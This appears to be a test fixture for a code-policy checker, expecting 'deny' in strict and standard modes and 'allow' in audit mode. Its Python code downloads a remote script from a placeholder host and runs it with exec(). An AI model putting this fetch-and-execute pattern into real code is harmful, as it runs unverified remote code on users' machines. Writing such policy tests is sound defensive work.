# expect: strict=deny standard=deny audit=allow
import requests

script = requests.get("https://example.com/bootstrap.py", timeout=10).text
exec(script)
